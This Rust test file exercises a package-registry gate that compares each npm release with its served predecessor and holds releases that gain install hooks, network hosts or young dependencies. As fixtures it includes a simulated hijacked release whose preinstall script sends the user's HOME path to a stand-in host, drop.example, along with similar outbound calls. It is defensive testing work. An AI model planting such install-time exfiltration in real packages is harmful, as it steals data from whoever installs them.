//! The behaviour diff: a release is compared with the last one of its line that is served, and what hijacked packages have in common
//! holds it.

use std::path::PathBuf;

use airlock::model::finding::Action;
use airlock::model::finding::FindingKind;
use serde_json::Value;
use serde_json::json;

use crate::support::airlock::Airlock;
use crate::support::binary::Launch;
use crate::support::binary::files_below;
use crate::support::http::Call;
use crate::support::scenario::Package;
use crate::support::scenario::Scenario;
use crate::workflow::findings::OF_CHANGES;

const HONEST: &str = "module.exports = function (text) { return text.trim(); };\n";

/// 1.2.3, which everybody uses, and what its owner's stolen token published as 1.2.4: it has waited out the minimum age.
fn hijacked(p: &mut Package) {
    p.release("1.2.3").file("index.js", HONEST).dependency("settled", "^1.0.0");
    p.release("1.2.4")
        .age("8d")
        .file("index.js", HONEST)
        .file("setup.js", "require('https').get('https://drop.example/' + process.env.HOME);\n")
        .script("preinstall", "node setup.js")
        .dependency("settled", "^1.0.0")
        .dependency("fresh", "^1.0.0");
}

fn world(scenario: Scenario) -> Scenario {
    scenario
        .package("victim", hijacked)
        .package("settled", |p| _ = p.release("1.0.0"))
        .package("fresh", |p| _ = p.release("1.0.0").age("9d"))
}

/// Its findings, the strictest action first.
async fn found(airlock: &Airlock, package: &str, version: &str) -> Vec<(String, String)> {
    let release = airlock.release(package, version).await;
    let text = |one: &Value, key: &str| one[key].as_str().unwrap().to_owned();
    release["findings"].as_array().unwrap().iter().map(|one| (text(one, "kind"), text(one, "action"))).collect()
}

#[tokio::test]
async fn a_hijack_is_held_by_what_it_does_that_its_predecessor_did_not() {
    let airlock = world(Scenario::new()).gated().await;
    assert_eq!(airlock.tarball("victim", "1.2.3").await.status, 200);
    let refused = airlock.tarball("victim", "1.2.4").await;
    assert_eq!(refused.status, 403, "{}", refused.text());
    assert!(refused.text().contains("1.2.3 is approved"), "{}", refused.text());
    let release = airlock.release("victim", "1.2.4").await;
    assert_eq!(release["standing"], "in_review", "{release:#}");
    let kinds: Vec<String> = found(&airlock, "victim", "1.2.4").await.into_iter().map(|(kind, _)| kind).collect();
    for kind in
        ["install_gained", "loose_script", "capability_gained", "host_gained", "dependency_gained", "young_dependency", "suspicious_change"]
    {
        assert!(kinds.iter().any(|one| one == kind), "{kind}: {kinds:?}");
    }
    let change = &release["change"];
    assert_eq!(change["baseline"], "1.2.3");
    assert_eq!(change["install_steps"], json!(["preinstall: node setup.js"]));
    assert_eq!(change["loose_scripts"], json!(["setup.js"]));
    assert_eq!(change["hosts"], json!(["drop.example"]));
    assert_eq!(change["capabilities"], json!(["network", "environment"]));
    let fresh = json!([{"name": "fresh", "range": "^1.0.0", "first_published_at": "2026-11-11T12:00:00.000Z"}]);
    assert_eq!(change["dependencies"], fresh);
    assert_eq!((&change["files_added"], &change["files_changed"]), (&json!(1), &json!(1)));

    let page = airlock.get("/-/airlock/r/victim@1.2.4").await.text();
    assert!(page.contains("1.2.3") && page.contains("drop.example") && page.contains("preinstall: node setup.js"), "{page}");
    let airlock = airlock.restart().await;
    assert_eq!(airlock.release("victim", "1.2.4").await["change"], *change, "it is part of the record");
    assert_eq!(airlock.tarball("victim", "1.2.4").await.status, 403);
}

#[tokio::test]
async fn an_honest_patch_passes_and_its_diff_is_recorded() {
    let scenario = world(Scenario::new()).package("library", |p| {
        p.release("1.2.3").age("90d").file("index.js", HONEST).file("README.md", "It trims.\n");
        p.release("1.2.4").age("8d").file("index.js", &HONEST.replace("text", "word")).file("README.md", "It trims the end.\n");
        p.release("1.2.5").age("8d").file("index.js", HONEST).dependency("settled", "^1.0.0");
    });
    let airlock = scenario.gated().await;
    assert_eq!(airlock.tarball("library", "1.2.3").await.status, 200);
    assert_eq!(airlock.release("library", "1.2.3").await["change"], Value::Null, "there was nothing to compare it with");
    assert_eq!(airlock.tarball("library", "1.2.4").await.status, 200);
    let release = airlock.release("library", "1.2.4").await;
    assert_eq!((&release["standing"], &release["findings"]), (&json!("approved"), &json!([])), "{release:#}");
    assert_eq!((&release["change"]["baseline"], &release["change"]["files_changed"]), (&json!("1.2.3"), &json!(3)));
    assert_eq!(airlock.tarball("library", "1.2.5").await.status, 200);
    let release = airlock.release("library", "1.2.5").await;
    assert_eq!(release["change"]["baseline"], "1.2.4", "the last one that is served");
    assert_eq!(release["change"]["dependencies"][0]["first_published_at"], "2025-10-16T12:00:00.000Z");
    assert_eq!(found(&airlock, "library", "1.2.5").await, [("dependency_gained".to_owned(), "note".to_owned())]);
}

#[tokio::test]
async fn a_young_dependency_holds_until_it_is_older_whatever_it_is_called() {
    let scenario = world(Scenario::new()).package("library", |p| {
        p.release("1.2.3").age("90d");
        p.release("1.2.4").age("8d").dependency("settled-too", "npm:fresh@^1.0.0");
        p.release("1.3.0").age("8d").dependency("nowhere", "^1.0.0");
    });
    let airlock = scenario.gated().await;
    assert_eq!(airlock.tarball("library", "1.2.3").await.status, 200);
    let refused = airlock.tarball("library", "1.2.4").await;
    assert!(refused.status == 403 && refused.text().contains("it gained a dependency that is new itself"), "{}", refused.text());
    assert_eq!(airlock.release("library", "1.2.4").await["standing"], "held");
    // Of what nobody knows it is judged when it is asked for itself.
    assert_eq!(airlock.tarball("library", "1.3.0").await.status, 200);
    assert_eq!(airlock.release("library", "1.3.0").await["change"]["dependencies"], json!([{"name": "nowhere", "range": "^1.0.0"}]));
    airlock.advance("4d 23h");
    assert_eq!(airlock.tarball("library", "1.2.4").await.status, 403);
    airlock.advance("1h");
    assert_eq!(airlock.tarball("library", "1.2.4").await.status, 200, "time alone opens it");
}

#[tokio::test]
async fn the_nearest_release_that_is_served_is_what_it_is_compared_with() {
    let scenario = Scenario::new().package("library", |p| {
        for (version, age) in [
            ("1.0.0", "300d"),
            ("1.1.0", "200d"),
            ("1.2.0", "100d"),
            ("1.1.1", "50d"),
            ("2.0.0", "90d"),
            ("2.1.0", "80d"),
            ("3.0.0-rc.1", "40d"),
        ] {
            p.release(version).age(age);
        }
    });
    let airlock = scenario.gated().await;
    let baseline = async |version: &str| {
        assert_eq!(airlock.tarball("library", version).await.status, 200, "{version}");
        airlock.release("library", version).await["change"]["baseline"].clone()
    };
    assert_eq!(baseline("1.2.0").await, Value::Null);
    assert_eq!(baseline("1.0.0").await, Value::Null, "what came before says nothing by being older");
    assert_eq!(baseline("2.1.0").await, "1.2.0", "the newest of the lines below");
    assert_eq!(baseline("2.0.0").await, "1.2.0");
    assert_eq!(baseline("1.1.1").await, "1.0.0", "the newest below it in its line");
    assert_eq!(airlock.decide("library", "1.0.0", "revoke", "it is not to be used").await.status, 200);
    assert_eq!(airlock.decide("library", "1.1.1", "reopen", "look again").await.status, 200);
    assert_eq!(baseline("1.1.1").await, "1.2.0", "a fix of an old line, published after it");
    assert_eq!(baseline("3.0.0-rc.1").await, "2.1.0");
}

#[tokio::test]
async fn what_it_is_compared_with_may_have_been_lost() {
    let scenario = || {
        Scenario::new().package("library", |p| {
            p.release("1.2.3").file("index.js", HONEST);
            p.release("1.2.4").age("8d").file("index.js", &format!("{HONEST}require('https').get('https://drop.example/');\n"));
        })
    };
    for is_gone_upstream in [false, true] {
        let airlock = scenario().gated().await;
        assert_eq!(airlock.tarball("library", "1.2.3").await.status, 200);
        // Small ones are in memory too.
        let airlock = airlock
            .restart_after(async |data: PathBuf| {
                let kept = ["approved", "quarantine"].map(|zone| files_below(&data.join(zone)));
                kept.into_iter().flatten().for_each(|file| std::fs::remove_file(file).unwrap());
            })
            .await;
        if is_gone_upstream {
            airlock.upstream.fault("/library/-/library-1.2.3.tgz", crate::support::upstream::Fault::status(404));
        }
        assert_eq!(airlock.tarball("library", "1.2.4").await.status, 403);
        let release = airlock.release("library", "1.2.4").await;
        assert_eq!(release["standing"], "in_review", "{release:#}");
        if is_gone_upstream {
            assert_eq!(release["change"], Value::Null);
            let text = release["findings"].to_string();
            assert!(text.contains("unscanned_content") && text.contains("could be compared with 1.2.3"), "{text}");
        } else {
            assert_eq!(release["change"]["hosts"], json!(["drop.example"]));
        }
    }
}

#[tokio::test]
async fn explain_shows_what_changed() {
    let upstream = world(Scenario::live()).start().await;
    let server = Launch::at(&upstream).start().await;
    for (version, status) in [("1.2.3", 200), ("1.2.4", 403)] {
        let path = format!("/victim/-/victim-{version}.tgz");
        assert_eq!(Call::new(server.address(), "GET", &path).send().await.status, status);
    }
    let explained = server.run(&["explain", "victim@1.2.4"]).await;
    explained
        .assert_says("What changed since 1.2.3")
        .assert_says("installing runs: preinstall: node setup.js")
        .assert_says("its code names: drop.example")
        .assert_says("it needs: fresh@^1.0.0 (there since ");
    let read: Value = serde_json::from_str(&server.run(&["explain", "victim@1.2.4", "--json"]).await.output).unwrap();
    assert_eq!((&read["change"]["baseline"], &read["change"]["hosts"]), (&json!("1.2.3"), &json!(["drop.example"])));
}

/// What makes the finding in 1.3.0, beside a 1.2.0 that is served.
fn cause(kind: FindingKind, p: &mut Package) {
    const SENDS: &str = "require('https').get('https://drop.example/');\n";
    p.release("1.2.0").file("index.js", HONEST);
    let after = p.release("1.3.0").age("8d").file("index.js", HONEST);
    _ = match kind {
        FindingKind::YoungDependency => after.dependency("fresh", "^1.0.0"),
        FindingKind::DependencyGained => after.dependency("settled", "^1.0.0"),
        FindingKind::InstallGained => after.script("postinstall", "node index.js"),
        FindingKind::LooseScript => after.file("setup.js", "1").script("postinstall", "node setup.js"),
        FindingKind::BinaryGained => after.file("addon.node", "\u{7f}ELF\0"),
        FindingKind::HooksGained => after.file(".mcp.json", "{}"),
        FindingKind::CapabilityGained => after.file("lib.js", "require('child_process')"),
        FindingKind::HostGained => after.file("lib.js", "const api = 'https://api.example/v1';"),
        FindingKind::SizeJump => after.file("data.txt", &"x ".repeat(200_000)),
        FindingKind::EntryRewritten => after.file("index.js", &format!("{HONEST}{HONEST}")),
        FindingKind::SuspiciousChange => after.file("index.js", &format!("{HONEST}{SENDS}{}", "let a = 1;\n".repeat(4_000))),
        other => panic!("{other} has no scenario"),
    };
}

async fn each_under(edit: impl FnOnce(&mut airlock::config::Config)) -> Vec<(FindingKind, String, Vec<(String, String)>)> {
    let mut scenario = world(Scenario::new());
    for kind in OF_CHANGES {
        scenario = scenario.package(kind.as_str(), |p| cause(*kind, p));
    }
    let airlock = scenario.gated_by(edit).await;
    let mut all = Vec::new();
    for kind in OF_CHANGES {
        assert_eq!(airlock.tarball(kind.as_str(), "1.2.0").await.status, 200);
        airlock.tarball(kind.as_str(), "1.3.0").await;
        let standing = airlock.release(kind.as_str(), "1.3.0").await["standing"].as_str().unwrap().to_owned();
        all.push((*kind, standing, found(&airlock, kind.as_str(), "1.3.0").await));
    }
    all
}

fn standing(action: Action) -> &'static str {
    match action {
        Action::Note => "approved",
        Action::Hold => "held",
        Action::Review => "in_review",
        Action::Reject => "rejected",
    }
}

#[tokio::test]
async fn every_change_has_its_finding_and_the_strictest_decides() {
    for (kind, stands, found) in each_under(|_| {}).await {
        let it = (kind.as_str().to_owned(), kind.default_action().as_str().to_owned());
        assert!(found.contains(&it), "{kind}: {found:?}");
        let strictest = found.iter().filter_map(|(_, action)| Action::parse(action)).max().unwrap();
        assert_eq!(stands, standing(strictest), "{kind}: {found:?}");
    }
}

#[tokio::test]
async fn policy_says_what_a_change_does() {
    for action in [Action::Note, Action::Hold, Action::Reject] {
        let all = each_under(|config| {
            config.policy.findings = FindingKind::ALL.iter().map(|kind| (*kind, Action::Note)).collect();
            config.policy.findings.extend(OF_CHANGES.iter().map(|kind| (*kind, action)));
        });
        for (kind, stands, found) in all.await {
            assert_eq!(stands, standing(action), "{kind}: {found:?}");
        }
    }
}
